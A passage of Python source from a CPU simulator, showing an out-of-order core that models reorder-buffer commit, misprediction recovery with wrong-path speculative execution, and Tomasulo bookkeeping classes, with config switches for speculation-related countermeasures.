                             else None)
        self.kernel_mode = False
        self.syscall_handler = None
        self.watchdog = None
        self._decode_cache = {}
        self._base_cost = 1.0 / self.config.issue_width
        self._l1_latency = self.caches.config.l1_latency
        self._last_iline = -1
        self._last_ipage = -1
        # Self-modifying stores must not leave stale decode entries
        # behind; the dispatch loop itself stays untouched (no
        # superblocks on this core).
        memory.add_code_listener(self._on_code_write)

        # Tomasulo structures.
        p = self.params
        num_regs = len(self.state.regs)
        self.rob = ReorderBuffer(p.rob_depth)
        self.rat = RegisterStatus(num_regs)
        self.rs = ReservationStations(
            {"alu": p.rs_alu, "mem": p.rs_mem, "br": p.rs_branch}
        )
        self.lsq = LoadStoreQueue(p.lsq_depth)
        #: Committed register file (the ROB writes back here); converges
        #: with the rename file ``state.regs`` whenever the ROB drains.
        self.arch_regs = list(self.state.regs)
        #: Per-register result-ready times (the scheduling half of the
        #: rename table; values live in ``state.regs``).
        self._ready = [0.0] * num_regs
        self._fetch_clock = 0.0
        self._last_commit = 0.0
        self._inv_commit = 1.0 / p.commit_width
        self._seq = 0
        #: Tests may set this to a list to record (seq, pc, wrong_path)
        #: per commit and pin the in-order-commit invariant.
        self.commit_log = None

        tracer = current_tracer()
        if tracer.enabled:
            self._tracer = tracer
            self._metrics = tracer.metrics
            self.trace_clk = tracer.register_clock(self._cycles_now)
            self._tr_cpu = tracer.channel("cpu", self.trace_clk)
            self._tr_kernel = tracer.channel("kernel", self.trace_clk)
            self._tr_dispatch = tracer.channel("ooo.dispatch",
                                               self.trace_clk)
            self._tr_commit = tracer.channel("ooo.commit",
                                             self.trace_clk)
            self._tr_squash = tracer.channel("ooo.squash",
                                             self.trace_clk)
            self._tr_lsq = tracer.channel("ooo.lsq", self.trace_clk)
            cache_channel = tracer.channel("cache", self.trace_clk)
            if cache_channel is not None:
                self.caches.bind_tracer(cache_channel)
        else:
            self._tracer = None
            self._metrics = None
            self.trace_clk = 0
            self._tr_cpu = None
            self._tr_kernel = None
            self._tr_dispatch = None
            self._tr_commit = None
            self._tr_squash = None
            self._tr_lsq = None
        # Profiler: bound once, like the tracer.  The OoO loop cannot be
        # single-stepped without serialising the ROB (that would change
        # the timing being measured), so an active profiler attaches a
        # read-only cursor inside run() instead of diverting to step().
        profiler = current_profiler()
        self._prof = (profiler if profiler.enabled
                      and profiler.config.active else None)

    def _cycles_now(self):
        return int(self.cycles)

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------
    def reset_for_exec(self):
        """Flush decode/translation + pipeline state after ``execve``."""
        self._decode_cache.clear()
        self._last_iline = -1
        self._last_ipage = -1
        self.dtlb.flush()
        self.itlb.flush()
        if self.shadow_stack is not None:
            self.shadow_stack.reset()
        self.predictor.rsb.reset()
        self.rob.clear()
        self.rat.clear()
        self.rs.clear()
        self.lsq.clear()
        self._ready = [self.cycles] * len(self._ready)

    def _on_code_write(self, address, size):
        """A store reached an executable segment: decode cache is stale."""
        self._decode_cache.clear()

    def _decode_entry(self, pc):
        blob = self.memory.fetch(pc, INSTRUCTION_SIZE)
        try:
            instruction = decode(blob)
        except EncodingError as exc:
            raise CpuFault(f"illegal instruction at {pc:#010x}: {exc}")
        entry = (int(instruction.opcode), instruction.rd,
                 instruction.rs1, instruction.rs2, instruction.imm)
        self._decode_cache[pc] = entry
        return entry

    # ------------------------------------------------------------------
    # commit port
    # ------------------------------------------------------------------
    def _commit_head(self):
        """Retire the ROB head; returns its commit time."""
        entry = self.rob.pop_head()
        slot = self._last_commit + self._inv_commit
        if entry.completion > slot:
            slot = entry.completion
        self._last_commit = slot
        if slot > self.cycles:
            self.cycles = slot
        arch = self.arch_regs
        rat = self.rat
        for register, value in entry.writes:
            arch[register] = value
            rat.retire(register, entry)
        if entry.kind == "mem":
            self.lsq.release(entry.seq)
        log = self.commit_log
        if log is not None:
            log.append((entry.seq, entry.pc, entry.wrong_path))
        return slot

    def _commit_until(self, now):
        """Retire every head entry whose commit slot is due by *now*."""
        entries = self.rob.entries
        inv_commit = self._inv_commit
        while entries:
            head = entries[0]
            slot = self._last_commit + inv_commit
            if head.completion > slot:
                slot = head.completion
            if slot > now:
                break
            self._commit_head()

    def _drain(self):
        """Retire the whole ROB (quantum boundary, fault, serialise)."""
        while self.rob.entries:
            self._commit_head()

    def _serialize(self, fclock, extra=0.0):
        """Drain, then retire a serialising op; returns the new fetch
        clock (== ``self.cycles``: the machine is momentarily in-order).
        """
        metrics = self._metrics
        if metrics is not None and self.rob.entries:
            # Commit-stall bookkeeping: a serialising op forces the
            # whole ROB to retire before it may even dispatch.
            metrics.inc("ooo.commit_stalls")
            metrics.observe("ooo.rob.occupancy", len(self.rob.entries))
            trace = self._tr_commit
            if trace is not None:
                ts0 = trace.now()
                occupancy = len(self.rob.entries)
                self._drain()
                trace.complete("ooo.commit.drain", ts0, rob=occupancy)
            else:
                self._drain()
        else:
            self._drain()
        t = self.cycles
        if fclock > t:
            t = fclock
        t += extra
        self.cycles = t
        self._last_commit = t
        return t

    # ------------------------------------------------------------------
    # misprediction recovery + wrong-path execution
    # ------------------------------------------------------------------
    def _recover(self, pc, wrong_path_pc, resolve_time, fclock):
        """Mispredict: transient wrong path, squash, redirect fetch."""
        trace = self._tr_cpu
        ts0 = trace.now() if trace is not None else 0
        metrics = self._metrics
        squash_trace = self._tr_squash
        sq_ts0 = squash_trace.now() if squash_trace is not None else 0
        penalty = self.config.mispredict_penalty
        self.pmu.counters["mispredict_penalty_cycles"] += int(penalty)
        if fclock < resolve_time:
            fclock = resolve_time
        fclock += penalty
        if wrong_path_pc is not None:
            if metrics is not None:
                # Speculation-window depth: how many ROB slots the
                # wrong path may fill before the squash bounds it.
                metrics.observe("ooo.spec.window",
                                self.rob.free_slots())
                metrics.observe("ooo.rob.occupancy",
                                len(self.rob.entries))
            executed = self._speculate(wrong_path_pc)
            if metrics is not None:
                metrics.inc("ooo.squashes")
                if executed:
                    metrics.inc("ooo.wrong_path_uops", executed)
            if trace is not None:
                trace.complete("cpu.speculate", ts0, pc=pc,
                               target=wrong_path_pc, squashed=executed)
                self._tracer.metrics.observe(
                    "cpu.speculate.squashed", executed
                )
            if squash_trace is not None:
                squash_trace.complete("ooo.squash", sq_ts0, pc=pc,
                                      target=wrong_path_pc,
                                      uops=executed)
        elif trace is not None:
            trace.event("cpu.mispredict", pc=pc)
        return fclock

    def _speculate(self, start_pc):
        """Execute the wrong path in the ROB's free slots.

        Wrong-path uops allocate tail ROB entries and rename into the
        register-status table; stores stay in a store buffer.  The
        squash pops the tail and restores the rename-map checkpoint —
        only cache/TLB fills (and the ``spec_*`` counters) persist.
        """
        window = self.rob.free_slots()
        if window <= 0:
            return 0
        regs = self.state.regs
        checkpoint_regs = list(regs)
        checkpoint_rat = self.rat.checkpoint()
        rat_set = self.rat.set
        rob_entries = self.rob.entries
        store_buffer = {}
        counters = self.pmu.counters
        memory = self.memory
        dcache = self._decode_cache
        data_fast = self.caches.data_access_fast
        icache_fast = self.caches.instruction_access_fast
        dtlb_access = self.dtlb.access
        itlb_access = self.itlb.access
        invisible = self.config.invisible_speculation
        seq = self._seq
        pc = start_pc
        executed = 0

        for _ in range(window):
            entry = dcache.get(pc)
            if entry is None:
                try:
                    blob = memory.fetch(pc, INSTRUCTION_SIZE)
                    instruction = decode(blob)
                except (MemoryFault, EncodingError):
                    break
                entry = (int(instruction.opcode), instruction.rd,
                         instruction.rs1, instruction.rs2,
                         instruction.imm)
                dcache[pc] = entry
            # Wrong-path fetch fills the I-cache / ITLB too.
            icache_fast(pc)
            itlb_access(pc)

            executed += 1
            counters["spec_instructions"] += 1
            op, rd, rs1, rs2, imm = entry
            next_pc = (pc + INSTRUCTION_SIZE) & MASK32
            node = RobEntry(seq, pc, op, "spec", 0.0, wrong_path=True)
            seq += 1
            rob_entries.append(node)

            if op == _LW or op == _LB:
                address = (regs[rs1] + imm) & MASK32
                counters["spec_loads"] += 1
                if invisible:
                    # Serviced from the speculative buffer: data flows
                    # to the wrong path, but no cache line is installed.
                    pass
                else:
                    dtlb_access(address)
                    if data_fast(address, False)[1] == 3:
                        counters["spec_cache_fills"] += 1
                key = (address, 4 if op == _LW else 1)
                if key in store_buffer:
                    value = store_buffer[key]
                else:
                    try:
                        if op == _LW:
                            value = memory.load_word(address)
                        else:
                            value = memory.load_byte(address)
                    except MemoryFault:
                        # Faulting wrong-path loads are suppressed; the
                        # cache fill above already happened.
                        break
                if rd != 0:
                    regs[rd] = value & MASK32
                    rat_set(rd, node)
            elif op == _SW or op == _SB:
                address = (regs[rs1] + imm) & MASK32
                size = 4 if op == _SW else 1
                store_buffer[(address, size)] = regs[rs2] & (
                    MASK32 if size == 4 else 0xFF
                )
                dtlb_access(address)
                data_fast(address, True)
            elif _ADD <= op <= _SLTU:
                if rd != 0:
                    regs[rd] = _alu_rrr(op, regs[rs1], regs[rs2])
                    rat_set(rd, node)
            elif _ADDI <= op <= _SLTI:
                if rd != 0:
                    regs[rd] = _alu_rri(op, regs[rs1], imm)
                    rat_set(rd, node)
            elif op == _LI:
                if rd != 0:
                    regs[rd] = imm & MASK32
                    rat_set(rd, node)
            elif op == _MOV:
                if rd != 0:
                    regs[rd] = regs[rs1]
                    rat_set(rd, node)
            elif _BEQ <= op <= _BGEU:
                # Nested branches resolve immediately on the wrong path.
                if _branch_taken(op, regs[rs1], regs[rs2]):
                    next_pc = (pc + imm) & MASK32
            elif op == _JMP:
                next_pc = (pc + imm) & MASK32
            elif op == _JMPR:
                next_pc = (regs[rs1] + imm) & MASK32
            elif op == _CALL or op == _CALLR:
                return_address = next_pc
                sp = (regs[13] - 4) & MASK32
                regs[13] = sp
                rat_set(13, node)
                store_buffer[(sp, 4)] = return_address
                if op == _CALL:
                    next_pc = (pc + imm) & MASK32
                else:
                    next_pc = (regs[rs1] + imm) & MASK32
            elif op == _RET:
                sp = regs[13]
                key = (sp, 4)
                if key in store_buffer:
                    target = store_buffer[key]
                else:
                    try:
                        target = memory.load_word(sp)
                    except MemoryFault:
                        break
                regs[13] = (sp + 4) & MASK32
                rat_set(13, node)
                next_pc = target & MASK32
            elif op == _PUSH:
                sp = (regs[13] - 4) & MASK32
                regs[13] = sp
                rat_set(13, node)
                store_buffer[(sp, 4)] = regs[rs1]
                data_fast(sp, True)
            elif op == _POP:
                sp = regs[13]
                key = (sp, 4)
                if key in store_buffer:
                    value = store_buffer[key]
                else:
                    try:
                        value = memory.load_word(sp)
                    except MemoryFault:
                        break
                data_fast(sp, False)
                regs[13] = (sp + 4) & MASK32
                rat_set(13, node)
                if rd != 0:
                    regs[rd] = value
                    rat_set(rd, node)
            elif op == _RDCYCLE:
                if rd != 0:
                    regs[rd] = int(self.cycles) & MASK32
                    rat_set(rd, node)
            elif op == _RDINSTRET:
                if rd != 0:
                    regs[rd] = counters["instructions"] & MASK32
                    rat_set(rd, node)
            elif op == _NOP:
                pass
            else:
                # HALT, SYSCALL, MFENCE, CLFLUSH: serialising —
                # wrong-path execution stops here.
                break
            pc = next_pc

        counters["squashed_instructions"] += executed
        self._seq = seq
        squashed = self.rob.squash_tail()
        assert squashed == executed, "squash missed wrong-path uops"
        regs[:] = checkpoint_regs
        self.rat.restore(checkpoint_rat)
        return executed

    # ------------------------------------------------------------------
    # architectural execution
    # ------------------------------------------------------------------
    def step(self):
        """Retire one architectural instruction; ``False`` on halt."""
        if self.state.halted:
            return False
        self.run(max_instructions=1)
        return not self.state.halted

    def run(self, max_instructions=None):
        """Dispatch/commit until halt (or budget); returns retired count.

        One loop serves traced and untraced runs: ``self.cycles`` only
        moves at commit/serialise points, which is where every trace
        emission happens, so the channels always observe a live clock.
        All observable state is synchronised — and the ROB drained — on
        every exit path, including faults (precise exceptions: older
        work commits, the faulting instruction never allocates).
        """
        state = self.state
        if state.halted:
            return 0
        config = self.config
        counters = self.pmu.counters
        predictor = self.predictor
        memory = self.memory
        caches = self.caches
        rob_entries = self.rob.entries
        rob_depth = self.rob.depth
        rat_set = self.rat.set
        rs_acquire = self.rs.acquire
        rs_issue = self.rs.issue
        lsq = self.lsq
        lsq_entries = lsq.entries
        lsq_depth = lsq.depth
        dcache_get = self._decode_cache.get
        load_word = memory.load_word
        load_byte = memory.load_byte
        store_word = memory.store_word
        store_byte = memory.store_byte
        dtlb_access = self.dtlb.access
        itlb_access = self.itlb.access
        icache_fast = caches.instruction_access_fast
        data_fast = caches.data_access_fast
        predict_conditional = predictor.predict_conditional
        resolve_conditional = predictor.resolve_conditional
        predict_indirect = predictor.predict_indirect
        resolve_indirect = predictor.resolve_indirect
        on_call = predictor.on_call
        shadow = self.shadow_stack
        base_cost = self._base_cost
        l1_latency = self._l1_latency
        mul_extra = config.mul_extra
        div_extra = config.div_extra
        btb_miss_penalty = config.btb_miss_penalty
        fence_latency = config.fence_latency
        fence_stall = int(config.fence_latency)
        clflush_latency = config.clflush_latency
        syscall_latency = config.syscall_latency
        clflush_privileged = config.clflush_privileged
        size = INSTRUCTION_SIZE
        watchdog = self.watchdog
        stride = self.WATCHDOG_STRIDE
        limit = -1 if max_instructions is None else max_instructions
        tr_dispatch = self._tr_dispatch
        tr_lsq = self._tr_lsq
        # Pipeline-pressure tallies: plain locals on the hot path,
        # flushed to the metrics registry once per quantum (so a
        # telemetry-off run pays one integer add per stalled dispatch
        # and nothing else).
        dispatch_stalls = 0
        lsq_stalls = 0
        # Profiling cursor: read-only sequential accounting.  One
        # ``is not None`` guard per instruction (the tr_dispatch idiom);
        # cost attribution is by dispatch-clock progression, with the
        # final instruction closed against the committed clock so
        # ROB-drain cycles land where they were caused.
        cursor = self._prof.cursor() if self._prof is not None else None
        run_wall0 = perf_counter() if cursor is not None else 0.0

        # The ROB is empty between run() calls, so the rename file is
        # architectural here: re-seat the committed view on it (spawn
        # and syscall handlers write registers between quanta).
        self.arch_regs = list(state.regs)

        regs = state.regs
        ready = self._ready
        pc = state.pc
        fclock = self._fetch_clock
        last_iline = self._last_iline
        last_ipage = self._last_ipage
        executed = 0

        try:
            while not state.halted:
                if executed == limit:
                    break

                entry = dcache_get(pc)
                if entry is None:
                    entry = self._decode_entry(pc)
                    if cursor is not None:
                        cursor.decode_miss()
                line = pc >> 6
                if line != last_iline:
                    last_iline = line
                    extra = icache_fast(pc)[0] - l1_latency
                    if extra > 0:
                        fclock += extra
                        counters["memory_stall_cycles"] += extra
                page = pc >> 12
                if page != last_ipage:
                    last_ipage = page
                    itlb_access(pc)

                op, rd, rs1, rs2, imm = entry
                next_pc = (pc + size) & MASK32
                counters["instructions"] += 1
                seq = self._seq
                self._seq = seq + 1
                if cursor is not None:
                    # Finalises the *previous* instruction with this
                    # one's fetch clock; this one stays pending.
                    cursor.note(pc, op, fclock,
                                counters["memory_stall_cycles"],
                                counters["mispredict_penalty_cycles"])

                # Dispatch: retire whatever is due, then stall on
                # structural hazards (full ROB / stations / LSQ).
                dispatch = fclock
                self._commit_until(dispatch)
                if len(rob_entries) >= rob_depth:
                    if tr_dispatch is not None:
                        stall_ts = tr_dispatch.now()
                        stall_occ = len(rob_entries)
                    while len(rob_entries) >= rob_depth:
                        slot = self._commit_head()
                        dispatch_stalls += 1
                        if slot > dispatch:
                            dispatch = slot
                    if tr_dispatch is not None:
                        tr_dispatch.complete("ooo.dispatch.stall",
                                             stall_ts, pc=pc,
                                             rob=stall_occ)
                if op >= _ADD:
                    if op < _LW:
                        kind = "alu"
                    elif op < _BEQ:
                        kind = "mem"
                    elif op < _SYSCALL:
                        kind = "br"
                    elif op == _RDINSTRET:
                        kind = "alu"
                    else:
                        kind = None     # serialising
                else:
                    kind = None         # nop / halt
                if kind is not None:
                    stalled = rs_acquire(kind, dispatch)
                    if stalled > dispatch:
                        dispatch = stalled
                    if kind == "mem":
                        if len(lsq_entries) >= lsq_depth:
                            if tr_lsq is not None:
                                stall_ts = tr_lsq.now()
                            while len(lsq_entries) >= lsq_depth:
                                slot = self._commit_head()
                                lsq_stalls += 1
                                if slot > dispatch:
                                    dispatch = slot
                            if tr_lsq is not None:
                                tr_lsq.complete("ooo.lsq.stall",
                                                stall_ts, pc=pc)
                fclock = dispatch + base_cost

                if _ADDI <= op <= _SLTI:
                    counters["alu_instructions"] += 1
                    latency = 1.0
                    if op == _MULI:
                        counters["mul_div_instructions"] += 1
                        latency += mul_extra
                    start = dispatch
                    t = ready[rs1]
                    if t > start:
                        start = t
                    done = start + latency
                    rs_issue("alu", done)
                    writes = ()
                    if rd:
                        value = _alu_rri(op, regs[rs1], imm)
                        regs[rd] = value
                        ready[rd] = done
                        writes = ((rd, value),)
                    node = RobEntry(seq, pc, op, "alu", done, writes)
                    if writes:
                        rat_set(rd, node)
                    rob_entries.append(node)
                elif _ADD <= op <= _SLTU:
                    counters["alu_instructions"] += 1
                    latency = 1.0
                    if _MUL <= op <= _MOD:
                        counters["mul_div_instructions"] += 1
                        latency += (div_extra if op != _MUL
                                    else mul_extra)
                    start = dispatch
                    t = ready[rs1]
                    if t > start:
                        start = t
                    t = ready[rs2]
                    if t > start:
                        start = t
                    done = start + latency
                    rs_issue("alu", done)
                    writes = ()
                    if rd:
                        value = _alu_rrr(op, regs[rs1], regs[rs2])
                        regs[rd] = value
                        ready[rd] = done
                        writes = ((rd, value),)
                    node = RobEntry(seq, pc, op, "alu", done, writes)
                    if writes:
                        rat_set(rd, node)
                    rob_entries.append(node)
                elif op == _LI:
                    counters["alu_instructions"] += 1
                    done = dispatch + 1.0
                    rs_issue("alu", done)
                    writes = ()
                    if rd:
                        value = imm & MASK32
                        regs[rd] = value
                        ready[rd] = done
                        writes = ((rd, value),)
                    node = RobEntry(seq, pc, op, "alu", done, writes)
                    if writes:
                        rat_set(rd, node)
                    rob_entries.append(node)
                elif op == _MOV:
                    counters["alu_instructions"] += 1
                    start = dispatch
                    t = ready[rs1]
                    if t > start:
                        start = t
                    done = start + 1.0
                    rs_issue("alu", done)
                    writes = ()
                    if rd:
                        value = regs[rs1]
                        regs[rd] = value
                        ready[rd] = done
                        writes = ((rd, value),)
                    node = RobEntry(seq, pc, op, "alu", done, writes)
                    if writes:
                        rat_set(rd, node)
                    rob_entries.append(node)
                elif op == _LW or op == _LB:
                    counters["load_instructions"] += 1
                    address = (regs[rs1] + imm) & MASK32
                    value = (load_word(address) if op == _LW
                             else load_byte(address))
                    dtlb_access(address)
                    latency = data_fast(address, False)[0]
                    extra = latency - l1_latency
                    if extra > 0:
                        counters["memory_stall_cycles"] += extra
                    start = dispatch
                    t = ready[rs1]
                    if t > start:
                        start = t
                    done = start + latency
                    rs_issue("mem", done)
                    lsq_entries.append((seq, done))
                    writes = ()
                    if rd:
                        value &= MASK32
                        regs[rd] = value
                        ready[rd] = done
                        writes = ((rd, value),)
                    node = RobEntry(seq, pc, op, "mem", done, writes)
                    if writes:
                        rat_set(rd, node)
                    rob_entries.append(node)
                elif op == _SW or op == _SB:
                    counters["store_instructions"] += 1
                    address = (regs[rs1] + imm) & MASK32
                    if op == _SW:
                        store_word(address, regs[rs2])
                    else:
                        store_byte(address, regs[rs2])
                    dtlb_access(address)
                    extra = data_fast(address, True)[0] - l1_latency
                    if extra > 0:
                        counters["memory_stall_cycles"] += extra
                    start = dispatch
                    t = ready[rs1]
                    if t > start:
                        start = t
                    t = ready[rs2]
                    if t > start:
                        start = t
                    # Stores retire from the store queue off the
                    # critical path: the miss latency is not serialised
                    # into the dependency chain.
                    done = start + 1.0
                    rs_issue("mem", done)
                    lsq_entries.append((seq, done))
                    rob_entries.append(
                        RobEntry(seq, pc, op, "mem", done)
                    )
                elif op == _PUSH:
                    counters["stack_instructions"] += 1
                    sp = (regs[13] - 4) & MASK32
                    regs[13] = sp
                    store_word(sp, regs[rs1])
                    dtlb_access(sp)
                    extra = data_fast(sp, True)[0] - l1_latency
                    if extra > 0:
                        counters["memory_stall_cycles"] += extra
                    start = dispatch
                    t = ready[13]
                    if t > start:
                        start = t
                    t = ready[rs1]
                    if t > start:
                        start = t
                    done = start + 1.0
                    ready[13] = done
                    rs_issue("mem", done)
                    lsq_entries.append((seq, done))
                    node = RobEntry(seq, pc, op, "mem", done,
                                    ((13, sp),))
                    rat_set(13, node)
                    rob_entries.append(node)
                elif op == _POP:
                    counters["stack_instructions"] += 1
                    sp = regs[13]
                    value = load_word(sp)
                    dtlb_access(sp)
                    latency = data_fast(sp, False)[0]
                    extra = latency - l1_latency
                    if extra > 0:
                        counters["memory_stall_cycles"] += extra
                    new_sp = (sp + 4) & MASK32
                    regs[13] = new_sp
                    start = dispatch
                    t = ready[13]
                    if t > start:
                        start = t
                    done = start + latency
                    ready[13] = done
                    rs_issue("mem", done)
                    lsq_entries.append((seq, done))
                    writes = ((13, new_sp),)
                    if rd:
                        value &= MASK32
                        regs[rd] = value
                        ready[rd] = done
                        writes = ((13, new_sp), (rd, value))
                    node = RobEntry(seq, pc, op, "mem", done, writes)
                    for register, _ in writes:
                        rat_set(register, node)
                    rob_entries.append(node)
                elif _BEQ <= op <= _BGEU:
                    counters["branch_instructions"] += 1
                    counters["cond_branch_instructions"] += 1
                    taken = _branch_taken(op, regs[rs1], regs[rs2])
                    predicted = predict_conditional(pc)
                    mispredicted = resolve_conditional(pc, predicted,
                                                       taken)
                    if taken:
                        counters["branches_taken"] += 1
                        next_pc = (pc + imm) & MASK32
                    start = dispatch
                    t = ready[rs1]
                    if t > start:
                        start = t
                    t = ready[rs2]
                    if t > start:
                        start = t
                    done = start + 1.0
                    rs_issue("br", done)
                    rob_entries.append(
                        RobEntry(seq, pc, op, "br", done)
                    )
                    if mispredicted:
                        wrong_path = (
                            (pc + imm) & MASK32 if predicted
                            else (pc + size) & MASK32
                        )
                        fclock = self._recover(pc, wrong_path, done,
                                               fclock)
                elif op == _JMP:
                    counters["branch_instructions"] += 1
                    rs_issue("br", dispatch)
                    rob_entries.append(
                        RobEntry(seq, pc, op, "br", dispatch)
                    )
                    next_pc = (pc + imm) & MASK32
                elif op == _JMPR:
                    counters["branch_instructions"] += 1
                    counters["indirect_jump_instructions"] += 1
                    target = (regs[rs1] + imm) & MASK32
                    predicted = predict_indirect(pc)
                    mispredicted = resolve_indirect(pc, predicted,
                                                    target)
                    start = dispatch
                    t = ready[rs1]
                    if t > start:
                        start = t
                    done = start + 1.0
                    rs_issue("br", done)
                    rob_entries.append(
                        RobEntry(seq, pc, op, "br", done)
                    )
                    if predicted is None:
                        if fclock < done:
                            fclock = done
                        fclock += btb_miss_penalty
                    elif mispredicted:
                        fclock = self._recover(pc, predicted, done,
                                               fclock)
                    next_pc = target
                elif op == _CALL:
                    counters["branch_instructions"] += 1
                    counters["call_instructions"] += 1
                    return_address = next_pc
                    sp = (regs[13] - 4) & MASK32
                    regs[13] = sp
                    store_word(sp, return_address)
                    dtlb_access(sp)
                    extra = data_fast(sp, True)[0] - l1_latency
                    if extra > 0:
                        counters["memory_stall_cycles"] += extra
                    on_call(return_address)
                    if shadow is not None:
                        shadow.on_call(return_address)
                    start = dispatch
                    t = ready[13]
                    if t > start:
                        start = t
                    done = start + 1.0
                    ready[13] = done
                    rs_issue("br", done)
                    node = RobEntry(seq, pc, op, "br", done,
                                    ((13, sp),))
                    rat_set(13, node)
                    rob_entries.append(node)
                    next_pc = (pc + imm) & MASK32
                elif op == _CALLR:
                    counters["branch_instructions"] += 1
                    counters["call_instructions"] += 1
                    counters["indirect_jump_instructions"] += 1
                    target = (regs[rs1] + imm) & MASK32
                    predicted = predict_indirect(pc)
                    mispredicted = resolve_indirect(pc, predicted,
                                                    target)
                    return_address = next_pc
                    sp = (regs[13] - 4) & MASK32
                    regs[13] = sp
                    store_word(sp, return_address)
                    dtlb_access(sp)
                    extra = data_fast(sp, True)[0] - l1_latency
                    if extra > 0:
                        counters["memory_stall_cycles"] += extra
                    on_call(return_address)
                    if shadow is not None:
                        shadow.on_call(return_address)
                    start = dispatch
                    t = ready[13]
                    if t > start:
                        start = t
                    t = ready[rs1]
                    if t > start:
                        start = t
                    done = start + 1.0
                    ready[13] = done
                    rs_issue("br", done)
                    node = RobEntry(seq, pc, op, "br", done,
                                    ((13, sp),))
                    rat_set(13, node)
                    rob_entries.append(node)
                    if predicted is None:
                        if fclock < done:
                            fclock = done
                        fclock += btb_miss_penalty
                    elif mispredicted:
                        fclock = self._recover(pc, predicted, done,
                                               fclock)
                    next_pc = target
                elif op == _RET:
                    counters["branch_instructions"] += 1
                    counters["ret_instructions"] += 1
                    sp = regs[13]
                    target = load_word(sp)
                    dtlb_access(sp)
                    latency = data_fast(sp, False)[0]
                    extra = latency - l1_latency
                    if extra > 0:
                        counters["memory_stall_cycles"] += extra
                    new_sp = (sp + 4) & MASK32
                    regs[13] = new_sp
                    if shadow is not None:
                        try:
                            shadow.on_return(target)
                        except ShadowStackViolation:
                            if self._tr_cpu is not None:
                                self._tr_cpu.event(
                                    "cpu.shadow_divergence",
                                    pc=pc, target=target,
                                )
                            raise
                    predicted = predictor.predict_return()
                    mispredicted = predictor.resolve_return(predicted,
                                                            target)
                    start = dispatch
                    t = ready[13]
                    if t > start:
                        start = t
                    done = start + latency
                    ready[13] = done
                    rs_issue("br", done)
                    node = RobEntry(seq, pc, op, "br", done,
                                    ((13, new_sp),))
                    rat_set(13, node)
                    rob_entries.append(node)
                    if mispredicted:
                        fclock = self._recover(pc, predicted, done,
                                               fclock)
                    next_pc = target
                elif op == _CLFLUSH:
                    counters["clflush_instructions"] += 1
                    if clflush_privileged and not self.kernel_mode:
                        raise PrivilegeFault(
                            "clflush is disabled for non-privileged "
                            "code (countermeasure active)"
                        )
                    address = (regs[rs1] + imm) & MASK32
                    caches.flush_line(address)
                    fclock = self._serialize(fclock, clflush_latency)
                elif op == _MFENCE:
                    counters["mfence_instructions"] += 1
                    fclock = self._serialize(fclock, fence_latency)
                    counters["fence_stall_cycles"] += fence_stall
                elif op == _RDCYCLE:
                    counters["alu_instructions"] += 1
                    fclock = self._serialize(fclock)
                    if rd:
                        value = int(fclock) & MASK32
                        regs[rd] = value
                        self.arch_regs[rd] = value
                        ready[rd] = fclock
                elif op == _RDINSTRET:
                    counters["alu_instructions"] += 1
                    done = dispatch + 1.0
                    rs_issue("alu", done)
                    writes = ()
                    if rd:
                        value = counters["instructions"] & MASK32
                        regs[rd] = value
                        ready[rd] = done
                        writes = ((rd, value),)
                    node = RobEntry(seq, pc, op, "alu", done, writes)
                    if writes:
                        rat_set(rd, node)
                    rob_entries.append(node)
                elif op == _SYSCALL:
                    counters["syscall_instructions"] += 1
                    fclock = self._serialize(fclock, syscall_latency)
                    handler = self.syscall_handler
                    if handler is None:
                        raise CpuFault(
                            f"syscall at {pc:#010x} with no handler"
                        )
                    # Sync the architectural state the handler sees —
                    # then reload everything it may have changed
                    # (``execve`` remaps memory, resets the pipeline
                    # and installs a *new* regs list).
                    pc = next_pc
                    state.pc = pc
                    self._fetch_clock = fclock
                    self._last_iline = last_iline
                    self._last_ipage = last_ipage
                    handler(self)
                    regs = state.regs
                    ready = self._ready
                    pc = state.pc
                    fclock = self._fetch_clock
                    if fclock < self.cycles:
                        fclock = self.cycles
                    last_iline = self._last_iline
                    last_ipage = self._last_ipage
                    self.arch_regs = list(regs)
                    executed += 1
                    if watchdog is not None and executed % stride == 0:
                        watchdog.charge(stride)
                    continue
                elif op == _NOP:
                    rob_entries.append(
                        RobEntry(seq, pc, op, "nop", dispatch)
                    )
                elif op == _HALT:
                    state.halted = True
                    next_pc = pc
                else:  # pragma: no cover - every opcode handled above
                    raise CpuFault(
                        f"unhandled opcode {op:#04x} at {pc:#010x}"
                    )

                pc = next_pc
                executed += 1
                if watchdog is not None and executed % stride == 0:
                    watchdog.charge(stride)
        finally:
            # Every exit path — normal, halt, budget exhaustion, CPU or
            # memory fault — drains the ROB (older work commits; the
            # faulting instruction never allocated) and leaves every
            # observable in the object.
            state.pc = pc
            self._fetch_clock = fclock
            self._last_iline = last_iline
            self._last_ipage = last_ipage
            metrics = self._metrics
            if metrics is not None:
                # One ROB-occupancy sample per quantum (pre-drain) plus
                # the accumulated stall tallies.
                metrics.observe("ooo.rob.occupancy", len(rob_entries))
                if dispatch_stalls:
                    metrics.inc("ooo.dispatch_stalls", dispatch_stalls)
                if lsq_stalls:
                    metrics.inc("ooo.lsq_stalls", lsq_stalls)
            self._drain()
            if cursor is not None:
                final = self.cycles if self.cycles > fclock else fclock
                cursor.finish(final,
                              counters["memory_stall_cycles"],
                              counters["mispredict_penalty_cycles"])
                self._prof.add_wall("execute",
                                    perf_counter() - run_wall0)

        if watchdog is not None and executed % stride:
            watchdog.charge(executed % stride)
        return executed


register_uarch("ooo", OooCore)
