"""Tomasulo bookkeeping structures for the out-of-order core.

These are the textbook pieces — reorder buffer, reservation stations,
register-status (rename) table, load/store queue — kept as small,
separately-testable classes.  :class:`~repro.uarch.ooo.OooCore` drives
them: the ROB bounds transient execution (its free slots *are* the
speculation window), the reservation stations and the LSQ model issue
back-pressure, and the register-status table is what a misprediction
checkpoint restores.

The functional register values live in the core's rename file
(``state.regs``); the structures here carry the *schedule* — who
produces each register, when results complete, what is still in
flight.  ``Pmu``-visible time falls out of the commit stream.
"""

from collections import deque


class RobEntry:
    """One in-flight instruction, allocated at dispatch in program order."""

    __slots__ = ("seq", "pc", "op", "kind", "completion", "writes",
                 "wrong_path")

    def __init__(self, seq, pc, op, kind, completion, writes=(),
                 wrong_path=False):
        self.seq = seq
        self.pc = pc
        self.op = op
        self.kind = kind                  # "alu" | "mem" | "br"
        self.completion = completion      # result-ready time (cycles)
        self.writes = writes              # ((reg, value), ...) at commit
        self.wrong_path = wrong_path

    def __repr__(self):
        tag = " WRONG-PATH" if self.wrong_path else ""
        return (f"<RobEntry #{self.seq} pc={self.pc:#x} kind={self.kind}"
                f" done={self.completion:.2f}{tag}>")


class ReorderBuffer:
